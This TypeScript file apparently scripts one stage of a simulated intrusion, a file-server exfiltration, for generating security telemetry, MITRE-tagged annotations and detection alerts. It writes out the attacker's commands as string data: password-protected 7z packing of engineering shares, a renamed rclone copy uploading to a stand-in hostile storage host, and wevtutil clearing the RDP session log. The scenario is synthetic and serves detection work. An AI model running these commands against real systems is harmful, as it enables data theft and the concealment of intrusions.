import { raise } from '../alerts/alert.ts'
import { cloudApplication, device, file, ip, process, url, user } from '../alerts/evidence.ts'
import { apps, cloudAct } from '../cloud.ts'
import { fs01, mgmt01 } from '../company/devices.ts'
import { broughtImage } from '../company/images.ts'
import { hostile } from '../company/internet.ts'
import { daHenrik } from '../company/people.ts'
import { connect, toHost, touchFile } from '../deed.ts'
import { at } from '../moment.ts'
import { type Process, rowOf, spawn } from '../process.ts'
import { openDesktop } from '../remote-desktop.ts'
import type { Stage } from '../stage.ts'
import { note } from '../truth.ts'

const STAGE_FOLDER = 'C:\\ProgramData\\Adjust'
const uploadUrl = `https://${hostile.storage.name}/v2/put/nvk`

/** Friday: by remote desktop to the file server, the drawings into archives, the archives to somebody's cloud drive. */
export function exfiltration(stage: Stage, service: Process): Process {
  const { world } = stage
  const arrival = openDesktop(stage, service, fs01, daHenrik, at(17, '04:30:25'), ' /restrictedadmin')
  note(world, 'main', 'LateralMovement', 'T1021.001', 'The domain account opens a desktop on the file server', arrival.row)
  const { explorer } = arrival
  const shell = spawn(world, explorer, at(17, '04:41:50'), 'cmd.exe', '"C:\\Windows\\system32\\cmd.exe"')

  const archives = ['eng_a.7z', 'eng_b.7z', 'eng_c.7z'].map((name, index) =>
    broughtImage(name, STAGE_FOLDER, 410_000_000 + index * 31_004_112),
  )
  const clocks = [
    ['05:10:20', '05:31:09'],
    ['05:34:40', '05:58:51'],
    ['06:02:12', '06:29:30'],
  ] as const
  const packers = archives.map((archive, index) => {
    const share = ['NB-114', 'NB-118', 'NB-121'][index]
    const packer = spawn(
      world,
      shell,
      at(17, clocks[index]![0]),
      '7z.exe',
      `"C:\\Program Files\\7-Zip\\7z.exe" a -mx1 -v500m -pNvk2026 ${STAGE_FOLDER}\\${archive.fileName} D:\\Shares\\Engineering\\${share}`,
    )
    note(world, 'main', 'Collection', 'T1560.001', `The drawings of ${share} are packed with a password`, rowOf(packer))
    note(
      world,
      'main',
      'Collection',
      'T1074.001',
      `and lie in ${archive.fileName}`,
      touchFile(world, packer, at(17, clocks[index]![1]), archive),
    )
    return packer
  })

  const uploader = broughtImage('svchelper.exe', STAGE_FOLDER, 48_912_896, {
    originalName: 'rclone.exe',
    product: 'Rclone',
    description: 'Rsync for cloud storage',
    version: '1.69.1',
  })
  touchFile(world, explorer, at(17, '07:12:03'), uploader)
  const upload = spawn(
    world,
    shell,
    at(17, '07:20:11'),
    uploader,
    `${STAGE_FOLDER}\\svchelper.exe copy ${STAGE_FOLDER} bl:nvk --include *.7z --transfers 3 --config ${STAGE_FOLDER}\\s.conf`,
  )
  note(world, 'main', 'Exfiltration', 'T1567.002', 'A renamed copying tool sends the archives to a cloud drive', rowOf(upload))
  for (const clock of ['07:20:14', '07:52:40', '08:31:02', '09:12:33', '09:49:58'])
    note(
      world,
      'main',
      'Exfiltration',
      'T1567.002',
      'Data goes to the cloud drive',
      connect(world, upload, at(17, clock), toHost(hostile.storage, 443, '/v2/put/nvk')),
    )
  for (const [index, archive] of archives.entries())
    cloudAct(world, {
      moment: at(17, ['08:02:11', '08:55:47', '09:49:40'][index]!),
      person: daHenrik,
      app: apps.drive,
      action: 'FileUploaded',
      activity: 'Upload',
      object: { name: archive.fileName, type: 'File' },
      agent: 'rclone/v1.69.1',
      uncommon: ['Application', 'UserAgent'],
      raw: { FileSize: archive.size },
    })
  const wipe = spawn(
    world,
    shell,
    at(17, '18:40:17'),
    'wevtutil.exe',
    'wevtutil cl Microsoft-Windows-TerminalServices-LocalSessionManager/Operational',
  )
  note(world, 'main', 'DefenseEvasion', 'T1070.001', 'The log of remote desktop sessions is cleared', rowOf(wipe))

  const main = device(fs01, { roles: ['attacked', 'compromised'], verdict: 'malicious', detailedRoles: ['Main device'] })
  const who = user(daHenrik, { roles: ['compromised'], verdict: 'malicious', tags: ['Sensitive'] })
  raise(world, {
    key: 'rdp-file-server',
    plot: 'main',
    stage: 'LateralMovement',
    by: 'endpoint',
    severity: 'medium',
    category: 'LateralMovement',
    techniques: ['T1021.001'],
    title: 'Suspicious remote desktop session',
    description: 'An administrator opened a desktop on a file server before dawn from a server from which nobody does so.',
    first: at(17, '04:30:25'),
    last: at(17, '04:41:50'),
    evidence: [
      main,
      who,
      device(mgmt01, { roles: ['source'], verdict: 'suspicious' }),
      ip(mgmt01.ip, { roles: ['source'] }),
      process(explorer, { verdict: 'unknown' }),
    ],
  })
  raise(world, {
    key: 'archives',
    plot: 'main',
    stage: 'Collection',
    by: 'endpoint',
    severity: 'medium',
    category: 'Collection',
    techniques: ['T1560.001', 'T1074.001'],
    title: 'Data of a share packed into protected archives',
    description: 'A packing program run from a remote session wrote large archives with a password outside the shared folders.',
    first: at(17, '05:10:20'),
    last: at(17, '06:29:30'),
    evidence: [
      main,
      who,
      process(shell, { verdict: 'suspicious' }),
      ...packers.map((one) => process(one, { verdict: 'suspicious' })),
      ...archives.map((one) => file(one, fs01, { verdict: 'suspicious' })),
    ],
  })
  raise(world, {
    key: 'renamed-uploader',
    plot: 'main',
    stage: 'Exfiltration',
    by: 'endpoint',
    severity: 'high',
    category: 'Exfiltration',
    techniques: ['T1567.002', 'T1036.003'],
    title: 'Renamed copying tool sends data to a cloud drive',
    description: 'A file whose original name is that of a cloud copying tool runs under another name and has sent more than a gigabyte.',
    first: at(17, '07:20:11'),
    last: at(17, '09:49:58'),
    evidence: [
      main,
      who,
      process(upload, { verdict: 'malicious' }),
      file(uploader, fs01, { verdict: 'malicious', status: 'active' }),
      url(uploadUrl, { verdict: 'suspicious' }),
      ip(hostile.storage.ip, { verdict: 'suspicious', roles: ['destination'] }),
    ],
  })
  raise(world, {
    key: 'unsanctioned-upload',
    plot: 'main',
    stage: 'Exfiltration',
    by: 'cloudApps',
    severity: 'medium',
    category: 'Exfiltration',
    techniques: ['T1567.002'],
    title: 'Unusual upload to an unsanctioned cloud app',
    description: 'An administrator account uploaded 1.3 GB to a cloud drive that nobody else uses.',
    first: at(17, '08:02:11'),
    last: at(17, '09:49:40'),
    evidence: [who, cloudApplication(apps.drive, { verdict: 'suspicious', roles: ['destination'] })],
  })
  raise(world, {
    key: 'log-cleared',
    plot: 'main',
    stage: 'DefenseEvasion',
    by: 'endpoint',
    severity: 'medium',
    category: 'DefenseEvasion',
    techniques: ['T1070.001'],
    title: 'Event log was cleared',
    description: 'A log that records remote desktop sessions was cleared from the command line.',
    first: at(17, '18:40:17'),
    evidence: [main, who, process(shell, { verdict: 'suspicious' }), process(wipe, { verdict: 'suspicious' })],
  })
  return shell
}
